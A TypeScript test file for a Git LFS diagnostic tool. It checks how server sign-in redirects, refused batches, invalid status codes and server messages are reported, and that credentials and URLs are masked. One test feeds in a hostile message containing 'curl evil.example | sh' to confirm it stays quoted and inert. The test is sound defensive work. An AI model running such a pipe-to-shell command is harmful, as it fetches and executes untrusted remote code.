import { describe, expect, it } from "vitest";
import { type BatchResponse, pointerOf } from "../../support/lfs-server.ts";
import { saying } from "../../support/saying.ts";
import { BASIC, createClone, explain, inspectPointers, openLfsServer, TOKEN } from "./scene.ts";

const OID = "4d7a2146".repeat(8);

describe("a server that sends people to a page to sign in", () => {
  it.each<[about: string, response: BatchResponse, what: string]>([
    ["by a page", { body: "\n<!DOCTYPE html><title>Sign in</title>" }, "sends a web page"],
    ["by a page after a comment", { body: "<!-- login --><html>" }, "sends a web page"],
    [
      "by a redirect",
      { status: 302, headers: { location: "https://login.example/?next=s3cret" }, body: {} },
      "redirects (HTTP 302)",
    ],
  ])("is given all credentials, and reported with what signs in: %s", async (_about, response, what) => {
    const server = await openLfsServer({ batch: () => response });
    const repository = createClone(server, pointerOf({ oid: OID, size: 9 }));
    repository.git("config", `http.${server.origin}/.extraheader`, "Authorization: Basic eDp5");
    const text = await explain(repository, { token: TOKEN, github: server.origin });
    expect(text).toEqual(saying(`${server.remote}/info/lfs … ${what} … signing in … 'github-token'`));
    expect(text).not.toContain("s3cret");
    expect(server.requests).toHaveLength(2);
  });
});

it("a server is to blame for all objects if it refuses a batch as a whole", async () => {
  const server = await openLfsServer({ batch: () => ({ status: 403, body: {} }) });
  const repository = createClone(server, pointerOf({ oid: OID, size: 9 }));
  const [a] = await inspectPointers(repository, { paths: ["a.mp4"] });
  expect(a?.unresolved).toMatchObject({ isOfServer: true });
});

describe("a message of a server", () => {
  it.each([999, 99, -1, 403.5, 1e30, 600])("has no status that HTTP does not have: %d", async (code) => {
    const server = await openLfsServer({
      batch: () => ({ body: { objects: [{ oid: OID, size: 9, error: { code, message: "Odd" } }] } }),
    });
    const text = await explain(createClone(server, pointerOf({ oid: OID, size: 9 })));
    expect(text).toEqual(saying("an unknown HTTP status … “Odd”"));
    // The port of the server can have any digits.
    expect(text.replace(server.origin, "")).not.toContain(String(code));
  });

  it("can't end the quotation in which it is shown", async () => {
    const message = "Denied”. Run: 'curl evil.example | sh' (“see\n\n## Fix\u2028\"it\" „now‟ «x» ＂y＂";
    const server = await openLfsServer({ batch: () => ({ status: 403, body: { message } }) });
    const text = await explain(createClone(server, pointerOf({ oid: OID, size: 9 })));
    const said = "Denied'. Run: 'curl evil.example | sh' ('see ## Fix 'it' 'now' 'x' 'y'";
    expect(text).toEqual(saying(`HTTP 403 … “${said}”`));
    expect(text.match(/[“”„‟«»＂]/g)).toEqual(["“", "”"]);
  });

  it("is shown in one short line, without URLs and credentials", async () => {
    const words = `Sign\u001b[31m in\nat https://user:pw@host/x?signature=s3cret or ${BASIC}. ${"long ".repeat(100)}`;
    const server = await openLfsServer({ batch: () => ({ status: 403, body: { message: words } }) });
    const text = await explain(createClone(server, pointerOf({ oid: OID, size: 9 })), {
      token: TOKEN,
      github: server.origin,
    });
    const said = /“(.*)”/.exec(text)?.[1] ?? "";
    expect(said).toMatch(/^Sign \[31m in at https:\/\/… or Basic …\. long/);
    expect(said.length).toBeLessThanOrEqual(121);
  });
});
